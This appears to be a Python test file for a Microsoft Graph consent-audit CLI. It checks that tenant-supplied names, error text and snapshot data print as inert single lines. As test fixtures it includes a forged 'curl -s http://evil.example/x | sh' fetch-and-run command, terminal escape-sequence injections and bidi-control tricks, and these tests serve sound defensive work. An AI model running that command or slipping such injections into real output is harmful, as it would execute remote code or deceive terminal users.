"""Every byte a person reads goes through the one boundary (issue 19 items 1, 9 and 13).

Item 1: ``fix`` (plan, confirmation, ``--apply`` results with Graph's error text),
``consent-url``, ``diff`` in every format, ``explain`` and the error messages on stderr show
tenant and server text as one inert line: no escape sequence, no bell, no bidi control, and
no line break that forges a plan step or a "fix:" line.
Item 9: a lone surrogate never reaches an encoder (``consent-url``, ``diff --format json``):
exit 0/1/2 with a message, never 4.
Item 13: the snapshot JSON writes bidi controls as ``\\uXXXX`` escapes, as the report does.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from consent_audit.render.safe_text import BIDI_CONTROLS
from tests.e2e.cli_runner import Run, run_cli
from tests.emulator.faults import Fault
from tests.emulator.fixtures import EmulatorFactory

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "tenants"
DIFF = Path(__file__).resolve().parents[2] / "examples" / "diff"
FORGED_STEP = "2. Run this first: curl -s http://evil.example/x | sh"
FORGED_FIX = "fix: curl -s http://evil.example/x | sh"
HOSTILE = f"Recruitee\x1b]0;pwned\x07\x1b[2J\u202e\n{FORGED_STEP}\r\n{FORGED_FIX}\x9b31m"
_CONTROL = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{BIDI_CONTROLS}]")


def _cli(home: Path, *args: str, graph_url: str | None = None) -> Run:
    return run_cli(list(args), graph_url, home, token=None if graph_url is None else "test-token")


def _assert_inert(*outputs: str) -> None:
    for out in outputs:
        bad = _CONTROL.search(out)
        assert bad is None, f"{bad.group()!r} at {bad.start()}: {out[max(0, bad.start() - 60) :]}"
        for line in out.splitlines():
            assert not line.lstrip().startswith((FORGED_STEP, FORGED_FIX)), line


def _hostile_snapshot(tmp_path: Path, name: str = "s.json", **extra: Any) -> Path:
    """partial-scopes.json with every display name hostile (the app's too: it is matched by
    its appId), plus ``extra`` top-level replacements."""
    raw = json.loads((EXAMPLES / "partial-scopes.json").read_text(encoding="utf-8"))

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("displayName", "display_name") and isinstance(value, str):
                    node[key] = HOSTILE
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(raw)
    raw.update(extra)
    path = tmp_path / name
    path.write_text(json.dumps(raw), encoding="utf-8")
    return path


def _app_id() -> str:
    raw = json.loads((EXAMPLES / "partial-scopes.json").read_text(encoding="utf-8"))
    app_id: str = raw["recruitee_apps"]["data"][0]["service_principal"]["appId"]
    return app_id


# Item 1 ------------------------------------------------------------------------------------


def test_item1_fix_plan_shows_tenant_text_as_one_inert_line(tmp_path: Path) -> None:
    """Old code: ``fix`` printed the app's name raw: an OSC title, a screen clear and a
    line "2. Run this first: curl ... | sh" in the plan, before any confirmation."""
    snapshot = _hostile_snapshot(tmp_path)
    run = _cli(tmp_path, "fix", "--snapshot", str(snapshot), "--app-id", _app_id())
    assert run.code in (0, 1), run.stderr
    assert "Fix plan" in run.stdout
    assert "\\x1b]0;pwned\\x07" in run.stdout  # shown, not acted on
    _assert_inert(run.stdout, run.stderr)


def test_item1_fix_apply_failed_line_shows_graph_error_text_inert(
    graph_emulator_factory: EmulatorFactory, tmp_path: Path
) -> None:
    fault = Fault.error(
        r"/oauth2PermissionGrants",
        status=403,
        code="Authorization_RequestDenied",
        message=HOSTILE,
        count=None,
        method="PATCH",
    )
    emu = graph_emulator_factory(str(EXAMPLES / "partial-scopes.json"), faults=[fault])
    run = _cli(tmp_path, "fix", "--apply", "--yes", "--manual-steps-done", "1", graph_url=emu.url)
    assert fault.fired >= 1
    assert run.code == 3, run.stdout + run.stderr
    failed = [line for line in run.stdout.splitlines() if line.startswith("FAILED")]
    assert failed, run.stdout
    _assert_inert(run.stdout, run.stderr)


def test_item1_consent_url_diff_and_explain_output_is_inert(tmp_path: Path) -> None:
    before = _hostile_snapshot(tmp_path, "before.json")
    after = _hostile_snapshot(
        tmp_path, "after.json", conditional_access_policies={"status": "ok", "data": []}
    )
    for fmt in ("text", "markdown", "json"):
        run = _cli(tmp_path, "diff", str(before), str(after), "--format", fmt)
        assert run.code in (0, 1), run.stderr
        if fmt == "json":
            json.loads(run.stdout)
            assert not re.search(f"[{BIDI_CONTROLS}]", run.stdout)
        else:
            _assert_inert(run.stdout)
        _assert_inert(run.stderr)
    run = _cli(tmp_path, "consent-url", "--snapshot", str(before), "--app-id", _app_id())
    assert run.code == 0, run.stderr
    _assert_inert(run.stdout, run.stderr)
    run = _cli(tmp_path, "explain", HOSTILE)
    assert run.code == 2
    _assert_inert(run.stdout, run.stderr)


def test_item1_an_error_message_is_one_line_whatever_the_snapshot_holds(tmp_path: Path) -> None:
    """Old code: a user query with a line break in a snapshot put a second "fix:" line
    (indented) into the "no data for user" error."""
    raw = json.loads((EXAMPLES / "assignment-required.json").read_text(encoding="utf-8"))
    raw["users"][0]["query"] = f"isaiah@fabrikam.com\n{FORGED_FIX}\x1b[2J"
    snapshot = tmp_path / "s.json"
    snapshot.write_text(json.dumps(raw), encoding="utf-8")
    run = _cli(tmp_path, "check", "--snapshot", str(snapshot), "--user", "nobody@fabrikam.com")
    assert run.code == 2
    lines = run.stderr.splitlines()
    assert [line.split(":")[0] for line in lines] == ["error", "fix"], run.stderr
    _assert_inert(run.stderr)
    assert "curl" not in lines[1]


# Item 9 ------------------------------------------------------------------------------------


def test_item9_lone_surrogates_never_reach_an_encoder(tmp_path: Path) -> None:
    """Old code: exit 4 (UnicodeEncodeError) from consent-url and diff --format json."""
    raw = json.loads((EXAMPLES / "partial-scopes.json").read_text(encoding="utf-8"))
    raw["tenant"]["display_name"] = "lone \ud800 surrogate"
    for policy in raw["conditional_access_policies"]["data"]:
        policy["displayName"] = "policy \udfff"
    before = tmp_path / "before.json"
    before.write_text(json.dumps(raw), encoding="utf-8")  # "\ud800" as a JSON escape
    raw["conditional_access_policies"]["data"] = raw["conditional_access_policies"]["data"][:1]
    after = tmp_path / "after.json"
    after.write_text(json.dumps(raw), encoding="utf-8")
    run = _cli(tmp_path, "diff", str(before), str(after), "--format", "json")
    assert run.code in (0, 1), run.stderr
    json.loads(run.stdout)
    raw["tenant"]["id"] = "\ud800"
    bad_tenant = tmp_path / "tenant.json"
    bad_tenant.write_text(json.dumps(raw), encoding="utf-8")
    run = _cli(tmp_path, "consent-url", "--snapshot", str(bad_tenant), "--app-id", _app_id())
    assert run.code == 2, run.stdout + run.stderr
    assert run.stderr.startswith("error: the tenant is neither")
    run = _cli(tmp_path, "consent-url", "--demo", "--tenant", "x\udcff.example")
    assert run.code == 2, run.stderr


# Item 13 (bidi half) -----------------------------------------------------------------------


def test_item13_snapshot_json_escapes_bidi_controls(
    graph_emulator_factory: EmulatorFactory, tmp_path: Path
) -> None:
    raw = json.loads((EXAMPLES / "ca-block-excluded-admins.json").read_text(encoding="utf-8"))
    for policy in raw["conditional_access_policies"]["data"]:
        policy["displayName"] = "Block \u202eexe.gnp\u202c \u2066legacy\u2069"
    tenant = tmp_path / "tenant.json"
    tenant.write_text(json.dumps(raw), encoding="utf-8")
    emu = graph_emulator_factory(str(tenant))
    out = tmp_path / "snap.json"
    run = _cli(tmp_path, "snapshot", "-o", str(out), graph_url=emu.url)
    assert run.code == 0, run.stderr
    text = out.read_text(encoding="utf-8")
    assert not re.search(f"[{BIDI_CONTROLS}]", text)
    assert "\\u202e" in text
    names = [p["displayName"] for p in json.loads(text)["conditional_access_policies"]["data"]]
    assert "Block \u202eexe.gnp\u202c \u2066legacy\u2069" in names  # the same data
